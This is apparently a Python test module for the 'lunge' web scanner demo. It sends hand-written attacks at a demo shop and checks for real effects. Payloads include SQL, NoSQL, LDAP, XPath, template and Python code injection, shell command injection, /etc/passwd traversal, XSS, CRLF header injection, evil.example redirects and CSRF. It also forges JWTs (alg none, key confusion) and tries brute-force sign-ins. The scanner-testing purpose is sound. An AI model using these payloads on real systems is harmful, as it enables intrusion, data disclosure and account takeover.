"""Hand-written attacks on one point of a recorded request, each with the oracle that says whether it
worked. They stand for lunge's checks in the demo's own tests: simple, but real requests to the real
shop, and each oracle demands the effect (an error, a flipped answer, a delay, executed markup,
computed shell output, a read file, an off-site Location), not a mere echo.

Each attack returns the evidence (a short string) when it worked, else None.
"""

from __future__ import annotations

import asyncio
import base64
import hashlib
import hmac
import json
import random
import re
from collections.abc import Awaitable, Callable
from urllib.parse import urlsplit

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa

from lunge.http import Request, parse
from tests.demo.wire import Sent, send

Attack = Callable[[Request, str, tuple[Request, ...]], Awaitable[str | None]]

SQL_ERROR = "sqlite3.OperationalError"
PASSWD = re.compile(r"root:[^:\n]*:0:0:")
DELAY = 2.0  # longer than the random slowness of /reports/summary (at most 1.4 s): a time-based trap
OFF_SITE = "evil.example"


def inject(request: Request, point: str, value: str, *, append: bool = True) -> Request:
    """``request`` with ``point``'s value replaced by ``value`` (appended to the recorded value)."""
    points = parse(request)
    found = points.get(point)
    assert found is not None, f"no point {point} in {request.method} {request.target}"
    return points.replace(point, found.value + value if append else value)


# ---------------------------------------------------------------------- SQL injection
async def sqli_error(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    base = await send(request)
    for suffix in ("'", "\"'"):
        hit = await send(inject(request, point, suffix))
        if SQL_ERROR in hit.text and SQL_ERROR not in base.text:
            return f"{suffix!r} -> {SQL_ERROR}"
    return None


BOOLEAN_PAIRS = (("' AND '1'='1", "' AND '1'='2"), (" AND 1=1", " AND 1=2"), ("' OR '1'='1", "' OR '1'='2"))


async def sqli_boolean(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    base, again = await send(request), await send(request)
    if not base.same_as(again):
        return None  # an unstable answer: no differential can be read from it
    for true, false in BOOLEAN_PAIRS:
        yes, no = await send(inject(request, point, true)), await send(inject(request, point, false))
        if yes.same_as(base) and not no.same_as(base):
            return f"{true!r} answers as the original, {false!r} does not"
    return None


TIME_PAYLOADS = ("'||sleep({d})||'", " AND sleep({d})=0", "' AND sleep({d})=0 AND '1'='1")


async def sqli_time(request: Request, point: str, sinks: tuple[Request, ...] = (), *,
                    delay: float = DELAY) -> str | None:
    """Delayed twice, and not with a zero delay."""
    for template in TIME_PAYLOADS:
        slow = await send(inject(request, point, template.format(d=delay)))
        if slow.elapsed < 0.9 * delay:
            continue
        control = await send(inject(request, point, template.format(d=0)))
        again = await send(inject(request, point, template.format(d=delay)))
        if control.elapsed < 0.5 * delay and again.elapsed >= 0.9 * delay:
            return f"{template!r}: {slow.elapsed:.2f}s and {again.elapsed:.2f}s, control {control.elapsed:.2f}s"
    return None


# ---------------------------------------------------------------------- XSS
def _markup(number: int) -> str:
    return f"<svg onload=alert({number})>"


def _xss_payload(number: int) -> str:
    # Closes a single- or double-quoted attribute or script string, and the script element.
    return "'\"></script>" + _markup(number)


def _executes(sent: Sent, number: int) -> bool:
    return sent.html and _markup(number) in sent.text


async def xss_reflected(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    number = random.randrange(10**6, 10**7)
    hit = await send(inject(request, point, _xss_payload(number)))
    return f"{_markup(number)} in the HTML answer" if _executes(hit, number) else None


async def xss_stored(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    number = random.randrange(10**6, 10**7)
    await send(inject(request, point, _xss_payload(number)))
    # Every sink at once: one slow page (/reports/summary) must not hold up the other sixty.
    for sent in await asyncio.gather(*(send(sink) for sink in sinks)):
        if _executes(sent, number):
            return f"{_markup(number)} in {sent.request.target}"
    return None


# ---------------------------------------------------------------------- the rest
async def cmdi(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    a, b = random.randrange(1000, 9999), random.randrange(1000, 9999)
    for separator in (";", "|", "&&", "\n"):
        hit = await send(inject(request, point, f"{separator}echo lng$(({a}+{b}))end"))
        if f"lng{a + b}end" in hit.text:
            return f"{separator!r}: the shell computed {a}+{b}"
    return None


async def traversal(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    base = await send(request)
    for path in ("../../../../../../../../etc/passwd", "/etc/passwd"):
        hit = await send(inject(request, point, path, append=False))
        if PASSWD.search(hit.text) and not PASSWD.search(base.text):
            return f"{path} read"
    return None


async def redirect(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    for target in (f"//{OFF_SITE}/", f"https://{OFF_SITE}/", f"/\\{OFF_SITE}/"):
        hit = await send(inject(request, point, target, append=False))
        location = hit.response.headers.get("location") or ""
        if 300 <= hit.status < 400 and urlsplit(location.replace("\\", "/")).hostname == OFF_SITE:
            return f"{target} -> Location: {location}"
    return None


# ---------------------------------------------------------------------- status-only SQL injection, query languages
_RUNTIME_ERROR = "ABS(-9223372036854775807-1)"


async def sqli_status(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    """A lone quote crashes, its escaped twin does not, and an error raised only for FALSE crashes."""
    base = await send(request)
    lone, escaped = await send(inject(request, point, "'")), await send(inject(request, point, "''"))
    if base.status >= 500 or lone.status < 500 or escaped.status >= 500:
        return None
    true = await send(inject(request, point, f"'||(CASE WHEN 1=1 THEN 1 ELSE {_RUNTIME_ERROR} END)||'"))
    false = await send(inject(request, point, f"'||(CASE WHEN 1=2 THEN 1 ELSE {_RUNTIME_ERROR} END)||'"))
    if true.status < 500 <= false.status:
        return f"' -> {lone.status}, '' -> {escaped.status}; TRUE -> {true.status}, FALSE -> {false.status}"
    return None


def _with_operator(request: Request, point: str, operator: dict[str, object]) -> Request | None:
    """The value replaced by an operator: the JSON object itself, or qs brackets for a parameter."""
    if "_JSON_DOC_" in point and "BASE64" not in point and "JWT" not in point:
        return parse(request).replace(point, json.dumps(operator), raw=True)
    if not point.startswith("GET_") or point.count("_") != 2:
        return None
    key = point.split("_")[1]
    ((name, value),) = operator.items()
    pairs = "&".join(f"{key}[{name}][]={v}" for v in value) if isinstance(value, list) else f"{key}[{name}]={value}"
    path, _, query = request.target.partition("?")
    kept = [p for p in query.split("&") if p.partition("=")[0] != key]
    return request.with_target(f"{path}?{'&'.join([*kept, pairs])}")


async def nosqli(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    """``$ne`` matches where ``$in`` of the same word does not, and ``$in`` answers as a plain unknown value."""
    true, false = _with_operator(request, point, {"$ne": "zq"}), _with_operator(request, point, {"$in": ["zq"]})
    if true is None or false is None:
        return None
    yes, no, plain = await send(true), await send(false), await send(inject(request, point, "zq"))
    if yes.status < 500 and not yes.same_as(no) and no.same_as(plain):
        return f"$ne -> {yes.status}, $in -> {no.status}"
    return None


async def ldapi(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    base = await send(request)
    broken = await send(inject(request, point, ")("))
    if "Bad search filter" in broken.text and "Bad search filter" not in base.text:
        return ")( -> Bad search filter"
    yes = await send(inject(request, point, ")(objectClass=*"))
    no = await send(inject(request, point, ")(objectClass=zq"))
    return "objectClass=* answers as the original, =zq does not" if yes.same_as(base) and not no.same_as(base) else None


async def xpathi(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    base = await send(request)
    yes = await send(inject(request, point, "' and '1'='1"))
    no = await send(inject(request, point, "' and '1'='2"))
    if yes.same_as(base) and not no.same_as(base):
        count = await send(inject(request, point, "' and count(/*)=1 and '1'='1"))
        return "' and '1'='1 and count(/*)=1 answer as the original" if count.same_as(base) else None
    return None


async def xslti(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    a, b = random.randrange(1000, 9999), random.randrange(1000, 9999)
    hit = await send(inject(request, point, f'<xsl:value-of select="{a}*{b}"/>'))
    return f"xsl:value-of computed {a}*{b}" if str(a * b) in hit.text else None


def _follow(request: Request, sent: Sent) -> Request | None:
    """The GET a browser sends after a 303 to this site, with the cookies the redirect set."""
    location = sent.response.headers.get("location") or ""
    if sent.status not in (301, 302, 303) or not location.startswith("/") or location.startswith("//"):
        return None
    cookies = [c.split(";", 1)[0] for c in sent.response.headers.get_all("set-cookie")]
    return Request.from_url(request.origin + location, headers=[("Cookie", "; ".join(cookies))] if cookies else [])


async def ssti(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    """``{{a*b}}`` between tags, rendered in the answer or on the page a 303 leads to."""
    a, b = random.randrange(1000, 9999), random.randrange(1000, 9999)
    hit = await send(inject(request, point, f"lng{{{{{a}*{b}}}}}end"))
    follow = _follow(request, hit)
    pages = [hit] + ([await send(follow)] if follow else [])
    for page in pages:
        if f"lng{a * b}end" in page.text:
            return f"{{{{{a}*{b}}}}} rendered" + (" after the redirect" if page is not hit else "")
    return None


async def code_output(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    """A Python expression that builds ``lng<a*b>end``, instead of the value."""
    a, b = random.randrange(1000, 9999), random.randrange(1000, 9999)
    hit = await send(inject(request, point, f"'lng%dend'%({a}*{b})", append=False))
    return f"'lng%dend'%({a}*{b}) evaluated" if f"lng{a * b}end" in hit.text else None


CODE_DELAY = 2.0  # longer than the random slowness of /reports/summary (at most 1.4 s)


async def code_time(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    """Python's time.sleep instead of the value: delayed twice, and not with a zero delay."""
    def payload(seconds: float) -> str:
        return f"__import__('time').sleep({seconds:g})"

    slow = await send(inject(request, point, payload(CODE_DELAY), append=False))
    if slow.elapsed < 0.9 * CODE_DELAY:
        return None
    control = await send(inject(request, point, payload(0), append=False))
    again = await send(inject(request, point, payload(CODE_DELAY), append=False))
    if control.elapsed < 0.5 * CODE_DELAY and again.elapsed >= 0.9 * CODE_DELAY:
        return f"slept {slow.elapsed:.2f}s and {again.elapsed:.2f}s, control {control.elapsed:.2f}s"
    return None


async def crlf(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    """A CR LF and a Set-Cookie line: a header of its own in the parsed answer."""
    name = f"lng{random.randrange(10**6, 10**7)}"
    hit = await send(inject(request, point, f"\r\nSet-Cookie: {name}=1"))
    cookies = [c.split(";", 1)[0].strip() for c in hit.response.headers.get_all("set-cookie")]
    return f"Set-Cookie: {name}=1 injected" if f"{name}=1" in cookies else None


async def jsonp(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    """An expression instead of the callback: the script starts by calling it."""
    name = f"lng{random.randrange(10**6, 10**7)}"
    hit = await send(inject(request, point, f"{name}();x", append=False))
    script = hit.response.content_type in ("application/javascript", "text/javascript")
    return f"{name}() opens the script" if script and hit.text.lstrip("/*").startswith(f"{name}();") else None


# ---------------------------------------------------------------------- authentication
def _b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode("ascii").rstrip("=")


_TOKEN = re.compile(r"^(?:Bearer )?(e[w-z3][\w-]*)\.(e[w-z3][\w-]*)\.([\w-]*)$")


async def jwt(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    """A token without a valid signature (alg none, stripped, random, re-signed with 'secret') answered
    like the genuine one, while no token at all is refused."""
    found = parse(request).get(point)
    if "_JWT" in point:  # the token's own point and its claims: lunge attacks the value that carries it
        return None
    match = _TOKEN.match(found.value) if found is not None else None
    if match is None or found is None:
        return None
    head, body, _ = match.groups()
    prefix = found.value[: match.start(1)]
    base = await send(request)
    if (await send(inject(request, point, prefix + "nothing", append=False))).same_as(base):
        return None
    claims = json.loads(base64.urlsafe_b64decode(body + "=" * (-len(body) % 4)))
    header = json.loads(base64.urlsafe_b64decode(head + "=" * (-len(head) % 4)))
    extra = _b64url(json.dumps({**claims, "x": 1}).encode())
    resigned = hmac.new(b"secret", f"{head}.{extra}".encode(), hashlib.sha256).digest()
    forged = {
        "alg none": f"{_b64url(json.dumps({'alg': 'none', 'typ': 'JWT'}).encode())}.{body}.",
        "stripped signature": f"{head}.{body}.",
        "random signature": f"{head}.{body}.{_b64url(random.randbytes(32))}",
        "re-signed with 'secret'": f"{head}.{extra}.{_b64url(resigned)}",
    }
    if "kid" in header:
        forged["kid /dev/null, empty key"] = _hs256({**header, "kid": "../../../../../../dev/null"}, body, b"")
    if str(header.get("alg", "")).startswith("RS"):
        for name, pem in (await _published_pems(request)).items():
            forged[f"HS256 signed with the {name} public key"] = _hs256({**header, "alg": "HS256"}, body, pem)
    for name, token in forged.items():
        if (await send(inject(request, point, prefix + token, append=False))).same_as(base):
            return f"{name} accepted"
    return None


def _hs256(header: dict[str, object], body: str, key: bytes) -> str:
    head = _b64url(json.dumps(header).encode())
    return f"{head}.{body}.{_b64url(hmac.new(key, f'{head}.{body}'.encode(), hashlib.sha256).digest())}"


async def _published_pems(request: Request) -> dict[str, bytes]:
    """The PEM files (X.509 and PKCS#1) of the RSA keys in the origin's JWK Set."""
    sent = await send(Request.from_url(f"{request.origin}/.well-known/jwks.json"))
    if sent.status != 200:
        return {}
    pems = {}
    for jwk in json.loads(sent.text).get("keys", []):
        n, e = (int.from_bytes(base64.urlsafe_b64decode(jwk[k] + "=="), "big") for k in ("n", "e"))
        public = rsa.RSAPublicNumbers(e, n).public_key()
        for name, form in (("X.509", serialization.PublicFormat.SubjectPublicKeyInfo),
                           ("PKCS#1", serialization.PublicFormat.PKCS1)):
            pems[name] = public.public_bytes(serialization.Encoding.PEM, form)
    return pems


async def session_forgery(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    """A numeric id inside JSON inside a cookie, changed to its neighbour: another user's page."""
    found = parse(request).get(point)
    if found is None or not found.value.isdigit() or "COOKIE_" not in point or "JSON_DOC" not in point:
        return None
    base = await send(request)
    other = await send(inject(request, point, str(int(found.value) + 1), append=False))
    garbage = await send(inject(request, point, "987654321", append=False))
    if other.status == 200 and not other.same_as(base) and not other.same_as(garbage):
        return f"id {int(found.value) + 1} served another page"
    return None


async def csrf(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    """A cookie-authenticated POST sent with a foreign Origin and Referer, carried out as recorded;
    without cookies it is refused."""
    if point != "URI_value" or request.method != "POST" or "cookie" not in request.headers:
        return None
    base = await send(request)
    anonymous = await send(request.with_headers(request.headers.remove("Cookie")))
    foreign = request.headers.add("Origin", "https://evil.example").add("Referer", "https://evil.example/")
    cross = await send(request.with_headers(foreign))
    return "accepted from https://evil.example" if cross.same_as(base) and not anonymous.same_as(base) else None


async def auth_bypass(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    """A JSON ``true`` or a wildcard in place of a password answered like the real one, while a wrong
    password is refused."""
    if not point.endswith("_password_value"):
        return None
    base = await send(request)
    if (await send(inject(request, point, "wrong-password-x", append=False))).same_as(base):
        return None
    points = parse(request)
    for value, raw in (("true", True), ("*", False)):
        if (await send(points.replace(point, value, raw=raw))).same_as(base):
            return f"password {value} accepted"
    return None


async def user_enumeration(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    """The recorded username and an unknown one, both with a wrong password, answered differently."""
    points = parse(request)
    found = points.get(point)
    password = point.rsplit("_", 2)[0] + "_password_value"
    if found is None or not point.endswith(("_username_value", "_email_value")) or points.get(password) is None:
        return None
    known = await send(points.replace_many({point: found.value, password: "wrong-password-x"}))
    unknown = await send(points.replace_many({point: "nobody-zq81", password: "wrong-password-x"}))
    if 429 in (known.status, unknown.status):
        return None  # rate-limited (the shop limits failed sign-ins per username): says nothing of existence
    return None if known.same_as(unknown) else f"{known.status} for the user, {unknown.status} for nobody"


ATTEMPTS = 20


async def brute_force(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    """Twenty wrong passwords for the recorded username, refused alike without a 429, then the recorded
    sign-in answered as before."""
    points = parse(request)
    found = points.get(point)
    password = point.rsplit("_", 2)[0] + "_password_value"
    if found is None or not point.endswith(("_username_value", "_email_value")) or points.get(password) is None:
        return None
    base = await send(request)
    if base.status >= 400:
        return None
    failures = [await send(points.replace_many({point: found.value, password: f"wrong-{n}-zq81"}))
                for n in range(ATTEMPTS)]
    if any(f.status == 429 or f.status != failures[0].status or f.status == base.status for f in failures):
        return None
    final = await send(request)
    return f"{ATTEMPTS} x {failures[0].status}, then {final.status}" if final.status == base.status else None


async def mass_assignment(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    """``role: admin`` added to a JSON update comes back in the answer (and a random field does not)."""
    if point != "URI_value" or request.method not in ("POST", "PUT", "PATCH") or "json" not in request.content_type:
        return None
    try:
        body = json.loads(request.body)
    except ValueError:
        return None
    if not isinstance(body, dict) or "role" in body:
        return None
    sent = await send(request.with_body(json.dumps({**body, "role": "admin", "zq81": "x"}).encode()))
    return "role=admin bound" if '"role": "admin"' in sent.text and "zq81" not in sent.text else None


async def broken_access(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
    """A privilege-named flag raised from 0 to 1 (or user to admin) shows more than the normal page."""
    found = parse(request).get(point)
    words = ("admin", "role", "staff")
    if found is None or not any(w in point.lower() for w in words) or found.value not in ("0", "false", "user"):
        return None
    base = await send(request)
    raised = {"0": "1", "false": "true", "user": "admin"}[found.value]
    hit = await send(inject(request, point, raised, append=False))
    return f"{raised} shows more" if hit.status == 200 and len(hit.text) > len(base.text) + 20 else None


BY_CHECK: dict[str, tuple[Attack, ...]] = {
    "sqli": (sqli_error, sqli_boolean, sqli_time, sqli_status),
    "nosqli": (nosqli,),
    "ldapi": (ldapi,),
    "xpathi": (xpathi,),
    "xslti": (xslti,),
    "xss-reflected": (xss_reflected,),
    "xss-stored": (xss_stored,),
    "cmdi": (cmdi,),
    "path-traversal": (traversal,),
    "open-redirect": (redirect,),
    "ssti": (ssti,),
    "code-injection": (code_output, code_time),
    "crlf": (crlf,),
    "xss-jsonp": (jsonp,),
    "jwt": (jwt,),
    "session-forgery": (session_forgery,),
    "csrf": (csrf,),
    "auth-bypass": (auth_bypass,),
    "user-enumeration": (user_enumeration,),
    "brute-force": (brute_force,),
    "mass-assignment": (mass_assignment,),
    "broken-access": (broken_access,),
}
SQLI_BY_TECHNIQUE: dict[str, Attack] = {"error": sqli_error, "boolean": sqli_boolean, "time": sqli_time,
                                        "status": sqli_status}
# Time-based attacks, run one at a time after everything else (nothing else loads the shop meanwhile).
SEQUENTIAL: tuple[Attack, ...] = (sqli_time, code_time)
CODE_BY_TECHNIQUE: dict[str, Attack] = {"output": code_output, "time": code_time}


from tests.demo import oob_attacks  # noqa: E402  (the server-side request checks' attacks live there)

BY_CHECK.update(oob_attacks.BY_CHECK)
